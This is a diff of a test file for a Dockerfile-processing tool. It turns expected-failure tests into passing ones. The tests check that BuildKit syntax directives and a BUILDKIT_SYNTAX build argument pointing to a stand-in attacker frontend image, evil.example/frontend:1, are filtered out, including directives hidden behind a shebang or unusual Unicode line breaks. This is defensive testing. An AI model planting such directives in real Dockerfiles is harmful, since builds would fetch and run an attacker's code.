@@ -130,7 +130,7 @@ describe('the frontend', () => {
   });
 
   // https://github.com/moby/buildkit/blob/v0.32.0/frontend/dockerfile/parser/directives.go
-  it.fails.each<[string, string]>([
+  it.each<[string, string]>([
     ['behind a shebang', '#!/usr/bin/env docker\n# syntax=evil.example/frontend:1\nFROM a:1\n'],
     ['behind a next-line character', '#\u0085syntax=evil.example/frontend:1\nFROM a:1\n'],
     ['before a line separator', '# syntax=evil.example/frontend:1 \u2028\nFROM a:1\n'],
@@ -140,7 +140,7 @@ describe('the frontend', () => {
     expect(rendered).not.toContain('evil.example/frontend:1');
   });
 
-  it.fails('is no build argument', async () => {
+  it('is no build argument', async () => {
     const text = 'ARG BUILDKIT_SYNTAX=evil.example/frontend:1\nFROM a:1\nARG BUILDKIT_SYNTAX\nRUN y\n';
     const config = 'environments:\n  - path: Dockerfile\n';
     const names = await environmentOf({ files: { Dockerfile: text }, config }, 'Dockerfile').then(
